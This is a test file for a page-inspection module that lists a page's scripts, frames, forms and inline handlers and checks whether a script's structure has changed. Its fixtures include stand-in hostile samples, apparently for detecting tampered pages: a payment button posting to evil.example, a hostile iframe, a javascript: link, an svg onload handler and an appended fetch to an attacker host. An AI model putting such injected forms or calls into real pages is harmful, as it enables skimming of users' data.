import { expect, test } from 'vitest';
import { readPage, shapeOf } from './read-page.server.ts';

test('a page’s scripts, windows, forms and odd elements are found, however they are written', () => {
  const page = readPage(`<!doctype html><HTML><base href=/x>
    <link rel="modulepreload" href="/assets/a.js"><SCRIPT SRC=//cdn.example/b.js></SCRIPT>
    <script type="module">import "/assets/c.js"</script><script type="application/ld+json">{"a":"<b>"}</script>
    <script type="importmap">{"integrity":{"/assets/a.js":"sha384-x"}}</script>
    <iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>x</script>"></iframe>
    <form action="/checkout"><button formaction="https://evil.example/take" onClick=x()>Pay</button></form>
    <a href=" JavaScript:x()">x</a><svg onload=y()></svg>`);
  expect(page).toEqual({
    scripts: ['//cdn.example/b.js'],
    modules: ['/assets/a.js'],
    inline: ['import "/assets/c.js"', '{"integrity":{"/assets/a.js":"sha384-x"}}'],
    integrity: { '/assets/a.js': 'sha384-x' },
    frames: ['https://evil.example/', 'srcdoc'],
    forms: ['/checkout', 'https://evil.example/take'],
    handlers: ['onclick of button', 'href of a', 'onload of svg'],
    strange: ['base'],
  });
});

test('a page that is broken, or an import map that is, is read all the same', () => {
  expect(readPage('<script type=importmap>{"integrity":</script><script>x').integrity).toBeNull();
  expect(readPage('').scripts).toEqual([]);
});

test('the shape of a script stays when its data and file names change, and no longer when it does something else', () => {
  const data = (json: string) => `window.__context.enqueue(${JSON.stringify(json)});`;
  expect(shapeOf(data('[1,"Oak \\"Suite\\"",2]'))).toBe(shapeOf(data('{"a":[true,null]}')));
  expect(shapeOf('import * as r0 from "/assets/a-1.js";')).toBe(
    shapeOf('import * as r0 from "/assets/b-2.js";'),
  );
  expect(shapeOf('window.manifest = {"a":1,"b":["x"]};')).toBe(
    shapeOf('window.manifest = {"c":{"d":"y","e":2.5}};'),
  );
  expect(shapeOf(data('x'))).not.toBe(shapeOf(`${data('x')}fetch("https://evil.example")`));
});
